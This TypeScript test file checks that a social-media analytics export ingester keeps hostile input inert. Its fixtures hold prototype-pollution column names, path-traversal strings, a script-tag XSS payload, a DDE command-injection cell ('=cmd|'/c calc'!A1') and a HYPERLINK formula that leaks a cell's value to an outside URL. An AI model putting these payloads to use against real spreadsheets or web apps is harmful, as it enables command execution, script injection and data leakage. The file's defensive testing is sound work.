import { describe, expect, test } from "vitest";
import { spreadsheetmlOf } from "../files/fixtures/spreadsheetml-of.ts";
import { xlsxOf } from "../files/fixtures/xlsx-of.ts";
import { ingestBytes } from "./ingest-file.ts";
import { samplePlace } from "./test-fixtures.ts";

/** Names that every object of JavaScript has, and that a table can have too. */
const INHERITED = ["__proto__", "constructor", "toString"];

const POSTS =
  "Post ID,Account ID,Account username,Account name,Description,Duration (sec),Publish time,Permalink,Post type,Data comment,Date,Views,Reach,Likes,Shares,Comments,Saves,Follows".split(
    ",",
  );
const post = (caption: string, username = "samplefed") => [
  ...["17900000000000001", "17840000000000001", username, "Sample Federation", caption, "0"],
  ...["09/01/2026 00:10", "https://www.instagram.com/p/AAAAAAAAAAA/", "IG image", "", "Lifetime"],
  ...["640", "500", "44", "2", "3", "6", "1"],
];

const quote = (cells: readonly string[]) =>
  cells.map((c) => `"${c.replaceAll('"', '""')}"`).join(",");
const csv = (...rows: readonly (readonly string[])[]) => Buffer.from(rows.map(quote).join("\n"));
const ingest = (platform: "instagram" | "mastodon", bytes: Buffer, name: string) =>
  ingestBytes(
    bytes,
    `data/exports/x/2026-10-01/${name}`,
    samplePlace(platform, "2026-10-01", name),
  );

describe("hostile text is kept as text:", () => {
  test("columns called as every object's own", () => {
    const [plain] = ingest("instagram", csv(POSTS, post("a")), "a.csv").tables;
    const more = csv([...POSTS, ...INHERITED], [...post("a"), "1", "2", "3"]);
    const [table] = ingest("instagram", more, "a.csv").tables;
    expect(plain?.posts.length).toBeGreaterThan(0);
    expect(table?.posts).toEqual(plain?.posts);
    const ignored = table?.checks.find((c) => c.id === "ignored-column");
    for (const name of INHERITED) expect(ignored?.message).toContain(JSON.stringify(name));
  });

  test("metrics and accounts called so, or like paths", () => {
    const header = ["date", "platform", "account", "surface", "metric", "value"];
    const row = (account: string, metric: string, surface = "account") => [
      "2026-07-01",
      "mastodon",
      account,
      surface,
      metric,
      "1",
    ];
    const rows = [...INHERITED.map((name) => row("fed-mastodon", name)), row("../../etc", "views")];
    const table = ingest("mastodon", csv(header, ...rows), "a.csv").tables[0];
    expect(table?.observations).toEqual([]);
    expect(table?.quarantine.map((q) => [q.line, q.column])).toEqual([
      [2, 5],
      [3, 5],
      [4, 5],
      [5, 3],
    ]);
    expect(Object.keys(Object.prototype)).toEqual([]);
  });

  test.each(["../../etc", "__proto__", "<script>alert(1)</script>", "=cmd|'/c calc'!A1"])(
    "the handle %s",
    (handle) => {
      const { tables, diagnostics } = ingest("instagram", csv(POSTS, post("a", handle)), "a.csv");
      expect(diagnostics).toEqual([]);
      // Shown in checks at most, where it is text; never part of what is loaded.
      expect(JSON.stringify([tables[0]?.observations, tables[0]?.posts])).not.toContain(handle);
    },
  );

  const formula = '=HYPERLINK("https://example.org/?"&A1,"prize")';
  const xml = formula.replaceAll("&", "&amp;").replaceAll('"', "&quot;");
  const cell = (text: string) => `<c t="inlineStr"><is><t>${text}</t></is></c>`;
  const row = (...cells: readonly string[]) => `<row>${cells.join("")}</row>`;
  const named = row(...POSTS.map(cell));
  const data = (text: string) => `<Cell><Data ss:Type="String">${text}</Data></Cell>`;
  test.each([
    ["of a text", csv(POSTS, post(formula)), formula],
    ["of an .xlsx", xlsxOf({ sheets: { S: named + row(...post(xml).map(cell)) } }), formula],
    [
      "of SpreadsheetML",
      spreadsheetmlOf(
        `<Worksheet ss:Name="S"><Table>${[POSTS, post(xml)].map((cells) => `<Row>${cells.map(data).join("")}</Row>`).join("")}</Table></Worksheet>`,
      ),
      formula,
    ],
    [
      "that is one, whose result is taken",
      xlsxOf({
        sheets: {
          S:
            named +
            row(...post("?").map(cell)).replace(
              cell("?"),
              `<c t="str"><f>${xml.slice(1)}</f><v>prize</v></c>`,
            ),
        },
      }),
      "prize",
    ],
  ])("a caption like a formula %s", (_, bytes, title) => {
    const { tables, diagnostics } = ingest("instagram", bytes, "a.bin");
    expect(diagnostics).toEqual([]);
    expect(tables[0]?.posts[0]?.title).toBe(title);
  });

  test("a sheet called like a path", () => {
    const sheets = { "../../#etc&#x202e;": named + row(...post("a").map(cell)) };
    const [table] = ingest("instagram", xlsxOf({ sheets }), "a.xlsx").tables;
    expect(table?.path).toBe("data/exports/x/2026-10-01/a.xlsx#../../%23etc%E2%80%AE");
  });
});
